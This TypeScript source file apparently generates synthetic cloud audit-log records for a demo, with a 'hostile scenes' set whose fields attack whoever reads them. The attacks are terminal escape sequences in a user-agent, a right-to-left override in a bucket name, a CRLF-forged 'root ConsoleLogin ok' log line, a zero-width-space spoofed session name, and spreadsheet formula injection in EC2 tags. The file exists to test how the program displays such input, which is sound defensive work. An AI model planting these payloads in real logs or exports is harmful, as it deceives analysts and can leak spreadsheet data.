import {accounts, buckets, regions} from './organization.ts';
import {agents, sessionKey} from './cast.ts';
import {assumedRole, iamUser, otherAccount} from './identities.ts';
import {bucketParameters, ec2Done, getObject} from './calls.ts';
import {minute, type Day, type Scene} from './scene.ts';
import {type Random} from './random.ts';
import {
	perform,
	read,
	write,
	type Actor,
	type Entry,
} from './records.ts';

const {prod} = accounts;
const {main} = regions;

const somebody = (agent: string): Actor => ({
	account: prod, identity: otherAccount('555566667777', 'AIDASTRANGERX5EXAMPLE'), ip: '192.0.2.88', agent,
});

const hostileEntries = (random: Random, start: number): Entry[] => {
	const time = start + random.integer(0, 10 * minute);
	const session = (name: string): Actor => ({
		account: prod, identity: assumedRole(prod, 'data-import', name, {created: time, key: sessionKey(random)}), ip: '203.0.113.77', agent: agents.boto,
	});
	const importer: Actor = {
		account: prod, identity: iamUser(prod, 'importer-東京', 'AKIAIMPORTER2EXAMPLE'), ip: '203.0.113.77', agent: agents.boto,
	};
	const bucket = (name: string) => bucketParameters(name, 'location');
	const longName = `harbor-lane-${'very-'.repeat(40)}long-name`;
	return [
		// A window title, a cleared screen, a link and a bell.
		...perform(random, time, [20, 60], somebody('curl/8.5 \u{1B}]0;all is well\u{7}\u{1B}[2J\u{1B}[H\u{1B}]8;;https://example.com\u{7}click\u{1B}]8;;\u{7}'), [
			read('s3', 'HeadBucket', main, bucket(buckets.invoices), {error: ['AccessDenied', 'Access Denied'], isData: true}),
		]),
		// A name that reads the other way round: `txt.exe` for `exe.txt`.
		...perform(random, time + 90_000, [20, 60], somebody('aws-cli/2.28.4'), [
			read('s3', 'GetBucketLocation', main, bucket('harbor-lane-\u{202E}txt.exe'), {error: ['InvalidBucketName', 'The specified bucket is not valid.\r\nNothing to see here.\n2026-01-01T00:00:00Z root ConsoleLogin ok']}),
			write('s3', 'CreateBucket', main, bucket(longName), {error: ['InvalidBucketName', 'The specified bucket is not valid.']}),
		]),
		// Two sessions that look like one.
		...perform(random, time + 300_000, [20, 60], session('maya\u{200B}@harbor-lane.example'), [read('sts', 'GetCallerIdentity', main)]),
		...perform(random, time + 420_000, [2, 40], importer, [
			getObject(random, buckets.invoices, '請求書/2026-07/横浜港-積荷目録.pdf'),
			getObject(random, buckets.invoices, 'inbox/🚢⚓️ été — Überfracht 👩‍👩‍👧.pdf'),
			write('ec2', 'CreateTags', main, {resourcesSet: {items: [{resourceId: 'i-0d1e6b02a9c4f8351'}]}, tagSet: {items: [{key: 'Name', value: '=HYPERLINK("https://example.com/?x="&A1,"invoice")'}, {key: 'note', value: '+1-555-0100'}]}}, ec2Done(random)),
			write('ec2', 'CreateKeyPair', main, {keyName: '=HYPERLINK("https://example.com/","key")'}, {response: {keyName: '=HYPERLINK("https://example.com/","key")', keyFingerprint: random.hex(40)}}),
		]),
	];
};

/**
Records whose text tries to do something to a reader: the caller of an API chooses agents, names, tags and keys, and the
error messages repeat them. They are here so that a look at the demo shows what the program makes of them.
*/
export const hostileScenes = (day: Day): Scene[] => {
	const from = day.start + (675 * minute);
	return day.age === 1 || day.age === 4 ? [{from, to: from + (30 * minute), play: random => hostileEntries(random, from)}] : [];
};
